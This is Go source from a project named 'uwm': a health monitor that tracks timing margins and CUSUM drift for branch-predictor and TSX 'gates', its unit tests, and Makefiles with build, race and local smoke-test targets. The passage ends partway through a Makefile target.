		m.gates[gate] = g
	}
	m.reads++
	g.reads++
	if bit == 1 {
		g.ones++
	}
	if cycle > m.lastCycle {
		m.lastCycle = cycle
	}
	if m.threshold == 0 || delta >= m.cfg.OutlierCutoff {
		m.outliers++
		g.outliers++
		return
	}
	margin := delta - m.threshold
	g.pushMargin(margin, m.cfg.WindowSize)

	am := abs64f(margin)
	if !m.marginInit {
		m.marginEWMA, m.marginInit = am, true
	} else {
		m.marginEWMA += m.cfg.MarginAlpha * (am - m.marginEWMA)
	}

	// Baseline collection, then CUSUM scoring for margin shrinkage.
	if !m.baseReady {
		m.baseline = append(m.baseline, am)
		if len(m.baseline) >= m.cfg.BaselineSamples {
			s := stats.Summarize(m.baseline)
			m.baseMean, m.baseStd = s.Mean, s.StdDev
			if m.baseStd < 1 {
				m.baseStd = 1
			}
			m.baseReady = true
		}
		return
	}
	z := (m.baseMean - am) / m.baseStd
	if z > m.cfg.CUSUMClamp {
		z = m.cfg.CUSUMClamp
	} else if z < -m.cfg.CUSUMClamp {
		z = -m.cfg.CUSUMClamp
	}
	m.cusum += z - m.cfg.CUSUMSlack
	if m.cusum < 0 {
		m.cusum = 0
	}
	if m.cusum >= m.cfg.CUSUMThreshold {
		m.drifting = true
	}
}

// ObserveOutcome folds a scored gate operation batch into the error-rate
// EWMAs. The engine's gate jobs call this with the per-job correct/total
// counts; offline replays have no truth table, so error fields are the
// one place live and offline snapshots may differ.
func (m *Monitor) ObserveOutcome(gate string, correct, total int) {
	if total <= 0 {
		return
	}
	errRate := 1 - float64(correct)/float64(total)
	m.mu.Lock()
	defer m.mu.Unlock()
	g := m.gates[gate]
	if g == nil {
		g = &gateState{family: familyOf(gate)}
		m.gates[gate] = g
	}
	g.ops += int64(total)
	g.correct += int64(correct)
	if !g.errInit {
		g.errEWMA, g.errInit = errRate, true
	} else {
		g.errEWMA += m.cfg.ErrorAlpha * (errRate - g.errEWMA)
	}
	if !m.machErrInit {
		m.machErrEWMA, m.machErrInit = errRate, true
	} else {
		m.machErrEWMA += m.cfg.ErrorAlpha * (errRate - m.machErrEWMA)
	}
}

// Drifting reports whether the margin distribution has drifted past the
// CUSUM alarm since the last calibration. The verdict latches until a
// calibration event resets it.
func (m *Monitor) Drifting() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.drifting
}

// Healthy reports the overall verdict: not drifting and error EWMA under
// the configured limit.
func (m *Monitor) Healthy() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	return !m.drifting && (!m.machErrInit || m.machErrEWMA <= m.cfg.ErrorRateLimit)
}

// MarginQuantiles is the fixed quantile set reported per gate.
type MarginQuantiles struct {
	P5  float64 `json:"p5"`
	P25 float64 `json:"p25"`
	P50 float64 `json:"p50"`
	P75 float64 `json:"p75"`
	P95 float64 `json:"p95"`
}

// GateHealth is the per-gate slice of a Snapshot.
type GateHealth struct {
	Gate      string          `json:"gate"`
	Family    string          `json:"family"`
	Reads     int64           `json:"reads"`
	Ones      int64           `json:"ones"`
	Outliers  int64           `json:"outliers"`
	Ops       int64           `json:"ops,omitempty"`
	Correct   int64           `json:"correct,omitempty"`
	ErrorEWMA float64         `json:"error_ewma"`
	Margins   MarginQuantiles `json:"margins"`
	// MarginBins is the current window bucketed for sparkline rendering.
	MarginBins []stats.Bin `json:"margin_bins,omitempty"`
}

// Snapshot is a point-in-time copy of the monitor's state. All fields
// derive from simulated cycles and counts — no wall-clock time — so two
// snapshots built from the same event stream compare equal.
type Snapshot struct {
	Threshold            int64        `json:"threshold"`
	Calibrations         int64        `json:"calibrations"`
	LastCalibrationCycle int64        `json:"last_calibration_cycle"`
	LastCycle            int64        `json:"last_cycle"`
	Reads                int64        `json:"reads"`
	Outliers             int64        `json:"outliers"`
	Drifting             bool         `json:"drifting"`
	Healthy              bool         `json:"healthy"`
	CUSUM                float64      `json:"cusum"`
	BaselineReady        bool         `json:"baseline_ready"`
	BaselineMean         float64      `json:"baseline_mean"`
	BaselineStd          float64      `json:"baseline_std"`
	MarginEWMA           float64      `json:"margin_ewma"`
	ErrorEWMA            float64      `json:"error_ewma"`
	Gates                []GateHealth `json:"gates"`
}

// Verdict is the drift-relevant slice of a Snapshot: exactly the fields
// that must agree between a live monitor and an offline replay of the
// same event stream. Error EWMAs are excluded on purpose — outcomes are
// not in the trace — so comparing serialized Verdicts is the precise
// statement of the live == offline guarantee.
type Verdict struct {
	Threshold     int64   `json:"threshold"`
	Calibrations  int64   `json:"calibrations"`
	Drifting      bool    `json:"drifting"`
	CUSUM         float64 `json:"cusum"`
	BaselineReady bool    `json:"baseline_ready"`
	BaselineMean  float64 `json:"baseline_mean"`
	BaselineStd   float64 `json:"baseline_std"`
	MarginEWMA    float64 `json:"margin_ewma"`
}

// Verdict extracts the drift verdict from a snapshot.
func (s Snapshot) Verdict() Verdict {
	return Verdict{
		Threshold:     s.Threshold,
		Calibrations:  s.Calibrations,
		Drifting:      s.Drifting,
		CUSUM:         s.CUSUM,
		BaselineReady: s.BaselineReady,
		BaselineMean:  s.BaselineMean,
		BaselineStd:   s.BaselineStd,
		MarginEWMA:    s.MarginEWMA,
	}
}

// Verdict copies the monitor's current drift verdict without building
// the full per-gate snapshot — cheap enough to record on every job
// completion.
func (m *Monitor) Verdict() Verdict {
	m.mu.Lock()
	defer m.mu.Unlock()
	return Verdict{
		Threshold:     m.threshold,
		Calibrations:  m.calibrations,
		Drifting:      m.drifting,
		CUSUM:         m.cusum,
		BaselineReady: m.baseReady,
		BaselineMean:  m.baseMean,
		BaselineStd:   m.baseStd,
		MarginEWMA:    m.marginEWMA,
	}
}

// binWidth buckets margins in 16-cycle steps — fine enough to show a
// drift of tens of cycles, coarse enough for a terminal sparkline.
const binWidth = 16

// Snapshot copies the monitor's current state. Gates are sorted by name
// for deterministic output.
func (m *Monitor) Snapshot() Snapshot {
	m.mu.Lock()
	defer m.mu.Unlock()
	s := Snapshot{
		Threshold:            m.threshold,
		Calibrations:         m.calibrations,
		LastCalibrationCycle: m.lastCalibrationCycle,
		LastCycle:            m.lastCycle,
		Reads:                m.reads,
		Outliers:             m.outliers,
		Drifting:             m.drifting,
		Healthy:              !m.drifting && (!m.machErrInit || m.machErrEWMA <= m.cfg.ErrorRateLimit),
		CUSUM:                m.cusum,
		BaselineReady:        m.baseReady,
		BaselineMean:         m.baseMean,
		BaselineStd:          m.baseStd,
		MarginEWMA:           m.marginEWMA,
		ErrorEWMA:            m.machErrEWMA,
	}
	names := make([]string, 0, len(m.gates))
	for name := range m.gates {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		g := m.gates[name]
		gh := GateHealth{
			Gate:      name,
			Family:    g.family,
			Reads:     g.reads,
			Ones:      g.ones,
			Outliers:  g.outliers,
			Ops:       g.ops,
			Correct:   g.correct,
			ErrorEWMA: g.errEWMA,
		}
		if ms := g.margins(); len(ms) > 0 {
			fs := make([]float64, len(ms))
			for i, v := range ms {
				fs[i] = float64(v)
			}
			sort.Float64s(fs)
			gh.Margins = MarginQuantiles{
				P5:  stats.Quantile(fs, 0.05),
				P25: stats.Quantile(fs, 0.25),
				P50: stats.Quantile(fs, 0.50),
				P75: stats.Quantile(fs, 0.75),
				P95: stats.Quantile(fs, 0.95),
			}
			gh.MarginBins = stats.HistogramInts(ms, binWidth)
		}
		s.Gates = append(s.Gates, gh)
	}
	return s
}

// Replay feeds a recorded event stream through a fresh Monitor and
// returns it. Running the same events a live monitor consumed yields an
// identical margin/drift state — the offline half of the live == offline
// verdict guarantee (error EWMAs excepted: outcomes aren't in the
// trace).
func Replay(events []trace.Event, cfg Config) *Monitor {
	m := NewMonitor(cfg)
	for _, e := range events {
		m.Emit(e)
	}
	return m
}

// RenderSnapshot formats a snapshot as a fixed-width terminal table with
// per-gate margin histograms, shared by uwm-top and uwm-trace -health.
func RenderSnapshot(s Snapshot, width int) string {
	if width <= 0 {
		width = 40
	}
	var sb strings.Builder
	state := "healthy"
	if s.Drifting {
		state = "DRIFTING"
	} else if !s.Healthy {
		state = "degraded"
	}
	fmt.Fprintf(&sb, "state=%s threshold=%d calibrations=%d reads=%d outliers=%d\n",
		state, s.Threshold, s.Calibrations, s.Reads, s.Outliers)
	fmt.Fprintf(&sb, "cusum=%.2f (baseline mean=%.1f std=%.1f ready=%v) |margin| ewma=%.1f err ewma=%.3f\n",
		s.CUSUM, s.BaselineMean, s.BaselineStd, s.BaselineReady, s.MarginEWMA, s.ErrorEWMA)
	for _, g := range s.Gates {
		fmt.Fprintf(&sb, "\n%s (%s): reads=%d ones=%d outliers=%d err=%.3f  margin p5/p50/p95 = %.0f/%.0f/%.0f\n",
			g.Gate, g.Family, g.Reads, g.Ones, g.Outliers, g.ErrorEWMA,
			g.Margins.P5, g.Margins.P50, g.Margins.P95)
		if len(g.MarginBins) > 0 {
			sb.WriteString(stats.RenderHistogram(g.MarginBins, width))
		}
	}
	return sb.String()
}

// parseTimedRead extracts the gate name, output index and decoded bit
// from the timed-read text payload ("gate=NAME out=N bit=B").
func parseTimedRead(text string) (gate string, out, bit int, ok bool) {
	if !strings.HasPrefix(text, "gate=") {
		return "", 0, 0, false
	}
	n, err := fmt.Sscanf(text, "gate=%s out=%d bit=%d", &gate, &out, &bit)
	if err != nil || n != 3 {
		return "", 0, 0, false
	}
	return gate, out, bit, true
}

// familyOf maps a gate name to its hardware family: TSX post-fault gates
// are prefixed TSX_; everything else is the branch-predictor family.
func familyOf(gate string) string {
	if strings.HasPrefix(gate, "TSX_") {
		return "tsx"
	}
	return "bp"
}

func abs64f(x int64) float64 {
	if x < 0 {
		return float64(-x)
	}
	return float64(x)
}
