package health

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"uwm/internal/trace"
)

func timedRead(cycle, latency int64, bit int) trace.Event {
	return trace.Event{
		Kind:  trace.KindTimedRead,
		Cycle: cycle,
		Value: uint64(latency),
		Text:  fmt.Sprintf("gate=TSX_AND out=0 bit=%d", bit),
	}
}

// TestStateEventCheckpointReplay is the flight recorder's correctness
// contract: a monitor seeded from another monitor's StateEvent
// checkpoint and then fed the same event suffix must reach a
// byte-identical drift verdict, even though it never saw the prefix.
func TestStateEventCheckpointReplay(t *testing.T) {
	cfg := Config{BaselineSamples: 16}
	live := NewMonitor(cfg)

	live.Emit(trace.Event{Kind: trace.KindCalibration, Cycle: 100, Value: 120})
	cycle := int64(200)
	// Prefix only the live monitor sees: fills the baseline window.
	for i := 0; i < 40; i++ {
		live.Emit(timedRead(cycle, 60+int64(i%7), i%2))
		cycle += 50
	}

	ck := live.StateEvent()
	if ck.Kind != trace.KindAnnotation || !strings.HasPrefix(ck.Text, StateEventPrefix) {
		t.Fatalf("checkpoint event %+v, want %q annotation", ck, StateEventPrefix)
	}
	replayed := NewMonitor(cfg)
	replayed.Emit(ck)

	// Shared suffix: latencies shifted enough to move the CUSUM.
	for i := 0; i < 60; i++ {
		e := timedRead(cycle, 95+int64(i%5), i%2)
		live.Emit(e)
		replayed.Emit(e)
		cycle += 50
	}

	vLive, err := json.Marshal(live.Verdict())
	if err != nil {
		t.Fatal(err)
	}
	vReplay, err := json.Marshal(replayed.Verdict())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(vLive, vReplay) {
		t.Fatalf("verdicts diverged\nlive:   %s\nreplay: %s", vLive, vReplay)
	}

	// The checkpoint also transfers the scalar counters the verdict
	// reports, so the replayed monitor agrees on history, not just state.
	v := replayed.Verdict()
	if v.Calibrations != 1 || v.Threshold != 120 {
		t.Fatalf("replayed verdict %+v lost the checkpointed calibration", v)
	}
}

// TestStateEventSurvivesJSONRoundTrip mirrors the real path: the
// checkpoint travels through trace JSONL encoding before replay.
func TestStateEventSurvivesJSONRoundTrip(t *testing.T) {
	m := NewMonitor(Config{BaselineSamples: 8})
	m.Emit(trace.Event{Kind: trace.KindCalibration, Cycle: 10, Value: 99})
	for i := 0; i < 24; i++ {
		m.Emit(timedRead(int64(20+i*30), 40+int64(i%3), i%2))
	}
	ck := m.StateEvent()

	var buf bytes.Buffer
	if err := trace.EncodeJSONL(&buf, []trace.Event{ck}); err != nil {
		t.Fatal(err)
	}
	var wire struct {
		Text string `json:"text"`
	}
	if err := json.Unmarshal(buf.Bytes(), &wire); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(wire.Text, StateEventPrefix) {
		t.Fatalf("wire text %q lost the checkpoint prefix", wire.Text)
	}

	b := NewMonitor(Config{BaselineSamples: 8})
	b.Emit(trace.Event{Kind: trace.KindAnnotation, Cycle: ck.Cycle, Text: wire.Text})
	va, _ := json.Marshal(m.Verdict())
	vb, _ := json.Marshal(b.Verdict())
	if !bytes.Equal(va, vb) {
		t.Fatalf("round-tripped verdict diverged\nwant %s\ngot  %s", va, vb)
	}
}

// TestApplyStateIgnoresMalformed keeps a corrupted checkpoint from
// poisoning a replay: the annotation is skipped, not fatal.
func TestApplyStateIgnoresMalformed(t *testing.T) {
	m := NewMonitor(Config{})
	m.Emit(trace.Event{Kind: trace.KindAnnotation, Text: StateEventPrefix + "{not json"})
	m.Emit(trace.Event{Kind: trace.KindAnnotation, Text: "unrelated annotation"})
	if v := m.Verdict(); v.Calibrations != 0 || v.Drifting {
		t.Fatalf("malformed checkpoint mutated the monitor: %+v", v)
	}
}
