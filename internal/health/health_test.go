package health

import (
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"uwm/internal/trace"
)

// calib returns a calibration event placing the threshold.
func calib(threshold int64, cycle int64) trace.Event {
	return trace.Event{Kind: trace.KindCalibration, Cycle: cycle, Value: uint64(threshold)}
}

// read returns a timed-read event for gate with the given latency.
func read(gate string, delta int64, cycle int64) trace.Event {
	bit := 0
	if delta < 129 {
		bit = 1
	}
	return trace.Event{
		Kind:  trace.KindTimedRead,
		Cycle: cycle,
		Value: uint64(delta),
		Text:  fmt.Sprintf("gate=%s out=0 bit=%d", gate, bit),
	}
}

func TestDefaults(t *testing.T) {
	cfg := Config{}.withDefaults()
	if cfg.WindowSize != 256 || cfg.BaselineSamples != 64 || cfg.OutlierCutoff != 4096 {
		t.Errorf("defaults wrong: %+v", cfg)
	}
	m := NewMonitor(Config{})
	if got := m.Config(); got.CUSUMThreshold != 12 || got.CUSUMSlack != 1 || got.CUSUMClamp != 4 {
		t.Errorf("monitor did not fill defaults: %+v", got)
	}
	if !m.Healthy() || m.Drifting() {
		t.Error("fresh monitor must be healthy")
	}
}

func TestMarginTracking(t *testing.T) {
	m := NewMonitor(Config{})
	m.Emit(calib(129, 100))
	// Hits land ~36 cycles (margin −93), misses ~222 (margin +93).
	for i := 0; i < 10; i++ {
		m.Emit(read("AND", 36, int64(200+i)))
		m.Emit(read("TSX_XOR", 222, int64(300+i)))
	}
	s := m.Snapshot()
	if s.Threshold != 129 || s.Calibrations != 1 || s.Reads != 20 {
		t.Fatalf("snapshot header wrong: %+v", s)
	}
	if len(s.Gates) != 2 || s.Gates[0].Gate != "AND" || s.Gates[1].Gate != "TSX_XOR" {
		t.Fatalf("gates = %+v", s.Gates)
	}
	and, xor := s.Gates[0], s.Gates[1]
	if and.Family != "bp" || xor.Family != "tsx" {
		t.Errorf("families: %s=%s %s=%s", and.Gate, and.Family, xor.Gate, xor.Family)
	}
	if and.Margins.P50 != -93 || xor.Margins.P50 != 93 {
		t.Errorf("median margins: and=%v xor=%v", and.Margins.P50, xor.Margins.P50)
	}
	if and.Ones != 10 || xor.Ones != 0 {
		t.Errorf("ones: and=%d xor=%d", and.Ones, xor.Ones)
	}
	if len(and.MarginBins) == 0 {
		t.Error("no margin bins")
	}
}

func TestOutliersExcluded(t *testing.T) {
	m := NewMonitor(Config{})
	m.Emit(calib(129, 0))
	m.Emit(read("AND", 36, 1))
	m.Emit(read("AND", 1<<19, 2)) // TSX aborted-read sentinel
	m.Emit(read("AND", 9000, 3))  // interrupt outlier
	s := m.Snapshot()
	if s.Reads != 3 || s.Outliers != 2 {
		t.Fatalf("reads=%d outliers=%d, want 3/2", s.Reads, s.Outliers)
	}
	g := s.Gates[0]
	if g.Outliers != 2 || g.Margins.P50 != -93 {
		t.Errorf("gate outliers=%d p50=%v — outliers leaked into margins", g.Outliers, g.Margins.P50)
	}
}

func TestDriftDetectionAndReset(t *testing.T) {
	cfg := Config{BaselineSamples: 32}
	m := NewMonitor(cfg)
	m.Emit(calib(129, 0))
	cycle := int64(1)
	// Healthy regime: wide margins on both sides.
	for i := 0; i < 100; i++ {
		m.Emit(read("AND", 36, cycle))
		cycle++
		m.Emit(read("AND", 222, cycle))
		cycle++
	}
	if m.Drifting() {
		t.Fatal("drift flagged under stationary margins")
	}
	// Drifted regime: misses slide 120 cycles toward the threshold.
	for i := 0; i < 100; i++ {
		m.Emit(read("AND", 36, cycle))
		cycle++
		m.Emit(read("AND", 150, cycle))
		cycle++
	}
	if !m.Drifting() {
		t.Fatal("margin shrinkage not flagged")
	}
	if m.Healthy() {
		t.Error("drifting monitor reported healthy")
	}
	// Verdict latches even if margins recover without recalibration.
	for i := 0; i < 10; i++ {
		m.Emit(read("AND", 222, cycle))
		cycle++
	}
	if !m.Drifting() {
		t.Error("verdict did not latch")
	}
	// Recalibration resets the detector.
	m.Emit(calib(110, cycle))
	if m.Drifting() || !m.Healthy() {
		t.Error("calibration did not reset drift state")
	}
	s := m.Snapshot()
	if s.Calibrations != 2 || s.Threshold != 110 || s.CUSUM != 0 || s.BaselineReady {
		t.Errorf("post-reset snapshot: %+v", s)
	}
}

func TestStationaryNoiseNeverAlarms(t *testing.T) {
	// A fixed alternating stream must never trip the detector no matter
	// how long it runs — the property that keeps deterministic engine
	// runs free of spurious recalibrations.
	m := NewMonitor(Config{})
	m.Emit(calib(129, 0))
	for i := 0; i < 5000; i++ {
		d := int64(30 + i%13)
		if i%2 == 0 {
			d = 215 + int64(i%13)
		}
		m.Emit(read("AND", d, int64(i)))
	}
	if m.Drifting() {
		t.Error("stationary stream tripped the CUSUM")
	}
}

// TestSingleOutlierReadDoesNotAlarm pins the winsorization: one read
// landing in the gap near the threshold — a hit inflated by interrupt
// jitter — scores tens of baseline deviations raw, but clamped it must
// not trip the alarm by itself. A sustained run at the same latency is
// real erosion and must still alarm.
func TestSingleOutlierReadDoesNotAlarm(t *testing.T) {
	m := NewMonitor(Config{BaselineSamples: 32})
	m.Emit(calib(129, 0))
	cycle := int64(1)
	feed := func(d int64, n int) {
		for i := 0; i < n; i++ {
			m.Emit(read("AND", d, cycle))
			cycle++
			m.Emit(read("AND", 222, cycle))
			cycle++
		}
	}
	feed(36, 50) // healthy baseline + scoring regime

	m.Emit(read("AND", 130, cycle)) // one read 1 cycle past the threshold
	cycle++
	if m.Drifting() {
		t.Fatal("a single near-threshold read tripped the alarm")
	}
	feed(36, 20) // healthy traffic drains the statistic
	if m.Drifting() {
		t.Fatal("drift latched after an isolated outlier")
	}

	for i := 0; i < 20; i++ { // sustained near-threshold reads are real erosion
		m.Emit(read("AND", 130, cycle))
		cycle++
	}
	if !m.Drifting() {
		t.Error("sustained near-threshold reads not flagged")
	}
}

func TestObserveOutcome(t *testing.T) {
	m := NewMonitor(Config{})
	m.ObserveOutcome("AND", 16, 16)
	if !m.Healthy() {
		t.Error("perfect outcomes marked unhealthy")
	}
	for i := 0; i < 100; i++ {
		m.ObserveOutcome("AND", 8, 16) // 50% error
	}
	if m.Healthy() {
		t.Error("50% error rate still healthy")
	}
	s := m.Snapshot()
	if s.ErrorEWMA < 0.4 {
		t.Errorf("error EWMA = %v, want near 0.5", s.ErrorEWMA)
	}
	g := s.Gates[0]
	if g.Ops != 16+100*16 || g.Correct != 16+100*8 {
		t.Errorf("ops=%d correct=%d", g.Ops, g.Correct)
	}
	m.ObserveOutcome("AND", 0, 0) // ignored
}

func TestReplayMatchesLive(t *testing.T) {
	var events []trace.Event
	events = append(events, calib(129, 0))
	for i := 0; i < 200; i++ {
		events = append(events, read("AND", 36+int64(i%7), int64(i)))
		events = append(events, read("TSX_XOR", 220-int64(i%5), int64(i)))
	}
	for i := 0; i < 100; i++ {
		events = append(events, read("AND", 140, int64(500+i)))
	}

	live := NewMonitor(Config{})
	for _, e := range events {
		live.Emit(e)
	}
	replayed := Replay(events, Config{})

	ls, rs := live.Snapshot(), replayed.Snapshot()
	if !reflect.DeepEqual(ls, rs) {
		t.Fatalf("live and replayed snapshots differ:\nlive:   %+v\nreplay: %+v", ls, rs)
	}
	if live.Drifting() != replayed.Drifting() {
		t.Error("drift verdicts differ")
	}
	// And both must survive a JSON round trip (the API wire format).
	b, err := json.Marshal(ls)
	if err != nil {
		t.Fatal(err)
	}
	var back Snapshot
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if back.Threshold != ls.Threshold || back.Drifting != ls.Drifting {
		t.Error("JSON round trip lost fields")
	}
}

func TestWindowBounded(t *testing.T) {
	m := NewMonitor(Config{WindowSize: 8})
	m.Emit(calib(129, 0))
	for i := 0; i < 100; i++ {
		m.Emit(read("AND", 36, int64(i)))
	}
	total := 0
	for _, b := range m.Snapshot().Gates[0].MarginBins {
		total += b.Count
	}
	if total != 8 {
		t.Errorf("window holds %d samples, want 8", total)
	}
}

func TestIgnoresForeignEvents(t *testing.T) {
	m := NewMonitor(Config{})
	m.Emit(trace.Event{Kind: trace.KindCacheFill, Addr: 0x40})
	m.Emit(trace.Event{Kind: trace.KindTimedRead, Text: "not a gate read"})
	m.Emit(trace.Event{Kind: trace.KindSpanBegin, Value: 1, Text: "job:x"})
	s := m.Snapshot()
	if s.Reads != 0 || len(s.Gates) != 0 {
		t.Errorf("foreign events counted: %+v", s)
	}
}

func TestRenderSnapshot(t *testing.T) {
	m := NewMonitor(Config{})
	m.Emit(calib(129, 0))
	for i := 0; i < 20; i++ {
		m.Emit(read("AND", 36, int64(i)))
	}
	out := RenderSnapshot(m.Snapshot(), 30)
	for _, want := range []string{"state=healthy", "threshold=129", "AND (bp)", "#"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
	if got := RenderSnapshot(Snapshot{Drifting: true}, 0); !strings.Contains(got, "DRIFTING") {
		t.Errorf("drifting state not rendered: %s", got)
	}
}

func TestParseTimedRead(t *testing.T) {
	gate, out, bit, ok := parseTimedRead("gate=TSX_AND out=2 bit=1")
	if !ok || gate != "TSX_AND" || out != 2 || bit != 1 {
		t.Errorf("parse = %q %d %d %v", gate, out, bit, ok)
	}
	for _, bad := range []string{"", "gate=", "nope", "gate=X out=y bit=z"} {
		if _, _, _, ok := parseTimedRead(bad); ok {
			t.Errorf("parse accepted %q", bad)
		}
	}
}
