module uwm

go 1.22
