GO ?= go
BENCH_OUT ?= BENCH_$(shell date +%Y%m%d-%H%M%S).json

.PHONY: all build test race vet staticcheck fmt-check ci bench bench-report bench-compare clean

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

vet:
	$(GO) vet ./...

# staticcheck runs when the binary is available (CI installs it; local
# runs without it just skip).
staticcheck:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "staticcheck not installed; skipping"; \
	fi

fmt-check:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

# ci is the gate a pull request must pass: formatting, static checks,
# a clean build and the full test suite under the race detector.
ci: fmt-check vet staticcheck build race

bench:
	$(GO) test -bench=. -benchmem -run=^$$ ./...

# bench-report writes a machine-readable evaluation record; compare two
# of them with `make bench-compare OLD=bench/BENCH_x.json NEW=BENCH_y.json`.
bench-report:
	$(GO) run ./cmd/uwm-bench -all -repeat 5 -json $(BENCH_OUT)

bench-compare:
	$(GO) run ./cmd/uwm-bench -compare $(OLD) $(NEW)

clean:
	$(GO) clean ./...
