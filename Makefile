GO ?= go
BENCH_OUT ?= BENCH_$(shell date +%Y%m%d-%H%M%S).json

.PHONY: all build test race race-shard vet staticcheck fmt-check ci serve-smoke slo-smoke cluster-smoke bench bench-report bench-compare clean

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# race-shard is a second, dedicated race pass over the packages that
# share mutable state across goroutines; -count=2 also surfaces state
# carried between in-process reruns.
race-shard:
	$(GO) test -race -count=2 \
		./internal/engine/... ./internal/flightrec ./internal/health \
		./internal/slo ./internal/evlog ./internal/cluster

vet:
	$(GO) vet ./...

# staticcheck runs when the binary is available (CI installs it; local
# runs without it just skip).
staticcheck:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "staticcheck not installed; skipping"; \
	fi

fmt-check:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

# ci is the gate a pull request must pass: formatting, static checks,
# a clean build, the full test suite under the race detector, and the
# job-service and gate-health smoke tests.
ci: fmt-check vet staticcheck build race race-shard serve-smoke slo-smoke cluster-smoke health-smoke

# serve-smoke boots uwm-serve on an ephemeral port, runs the example
# client under a known request id, fetches that job's flight-recording
# by the id and pipes it through uwm-trace, runs a one-shot uwm-top,
# and asserts a clean SIGTERM drain (exit 0) that leaves a post-mortem
# dump behind.
serve-smoke:
	@tmpdir="$$(mktemp -d)"; \
	trap 'rm -rf "$$tmpdir"' EXIT; \
	$(GO) build -o "$$tmpdir/uwm-serve" ./cmd/uwm-serve; \
	$(GO) build -o "$$tmpdir/uwm-top" ./cmd/uwm-top; \
	$(GO) build -o "$$tmpdir/uwm-trace" ./cmd/uwm-trace; \
	"$$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$$tmpdir/addr" \
		-postmortem-dir "$$tmpdir/postmortem" & \
	serve_pid=$$!; \
	i=0; while [ ! -s "$$tmpdir/addr" ]; do \
		i=$$((i + 1)); [ "$$i" -gt 100 ] && exit 1; sleep 0.1; \
	done; \
	$(GO) run ./examples/serve -addr "$$(cat "$$tmpdir/addr")" -request-id smoke-trace-1 && \
	"$$tmpdir/uwm-trace" -from "http://$$(cat "$$tmpdir/addr")" -job smoke-trace-1 >/dev/null && \
	"$$tmpdir/uwm-trace" -health -from "http://$$(cat "$$tmpdir/addr")" -job smoke-trace-1 >/dev/null && \
	"$$tmpdir/uwm-top" -addr "http://$$(cat "$$tmpdir/addr")" -once >/dev/null && \
	kill -TERM "$$serve_pid" && wait "$$serve_pid" && \
	[ -s "$$tmpdir/postmortem/index.json" ] || { echo "post-mortem dump missing"; exit 1; }

# slo-smoke boots uwm-serve with an unmeetable latency SLO, burns the
# budget with real jobs, and requires /v1/alerts to report a firing
# alert before a clean SIGTERM drain.
slo-smoke:
	@tmpdir="$$(mktemp -d)"; \
	trap 'rm -rf "$$tmpdir"' EXIT; \
	$(GO) build -o "$$tmpdir/uwm-serve" ./cmd/uwm-serve; \
	printf '%s' '[{"name":"job-latency","kind":"latency","objective":0.99,"latency_threshold":"1us","min_events":5}]' > "$$tmpdir/slo.json"; \
	"$$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$$tmpdir/addr" \
		-workers 1 -slo-config "$$tmpdir/slo.json" -evlog "$$tmpdir/events.jsonl" & \
	serve_pid=$$!; \
	i=0; while [ ! -s "$$tmpdir/addr" ]; do \
		i=$$((i + 1)); [ "$$i" -gt 100 ] && exit 1; sleep 0.1; \
	done; \
	base="http://$$(cat "$$tmpdir/addr")"; \
	for n in 1 2 3 4 5 6 7 8; do \
		curl -fsS -X POST "$$base/v1/jobs?wait=1" \
			-d '{"type":"gate","params":{"gate":"TSX_XOR","random":4}}' >/dev/null || exit 1; \
	done; \
	curl -fsS "$$base/v1/alerts" | grep -q '"state": "firing"' || { echo "alert not firing"; exit 1; }; \
	kill -TERM "$$serve_pid" && wait "$$serve_pid" && \
	grep -q '"event":"alert.fire"' "$$tmpdir/events.jsonl" || { echo "journal missing alert.fire"; exit 1; }

# cluster-smoke stands two uwm-serve backends behind one uwm-gateway:
# a duplicate seeded submission replays byte-identically from the
# result cache, a backend SIGTERMed mid-burst costs zero failed client
# requests, the dead backend shows up in /v1/cluster, and both the
# killed backend and the gateway drain cleanly.
cluster-smoke:
	@tmpdir="$$(mktemp -d)"; \
	trap 'rm -rf "$$tmpdir"' EXIT; \
	$(GO) build -o "$$tmpdir/uwm-serve" ./cmd/uwm-serve; \
	$(GO) build -o "$$tmpdir/uwm-gateway" ./cmd/uwm-gateway; \
	$(GO) build -o "$$tmpdir/uwm-top" ./cmd/uwm-top; \
	"$$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$$tmpdir/b1.addr" & \
	b1_pid=$$!; \
	"$$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$$tmpdir/b2.addr" & \
	b2_pid=$$!; \
	i=0; while [ ! -s "$$tmpdir/b1.addr" ] || [ ! -s "$$tmpdir/b2.addr" ]; do \
		i=$$((i + 1)); [ "$$i" -gt 100 ] && exit 1; sleep 0.1; \
	done; \
	"$$tmpdir/uwm-gateway" -addr 127.0.0.1:0 -addr-file "$$tmpdir/gw.addr" \
		-backends "$$(cat "$$tmpdir/b1.addr"),$$(cat "$$tmpdir/b2.addr")" \
		-probe-interval 200ms & \
	gw_pid=$$!; \
	i=0; while [ ! -s "$$tmpdir/gw.addr" ]; do \
		i=$$((i + 1)); [ "$$i" -gt 100 ] && exit 1; sleep 0.1; \
	done; \
	gw="http://$$(cat "$$tmpdir/gw.addr")"; \
	seeded='{"type":"gate","seed":42,"params":{"gate":"TSX_XOR","random":4}}'; \
	curl -fsS -X POST "$$gw/v1/jobs?wait=1" -d "$$seeded" -o "$$tmpdir/run1.json" && \
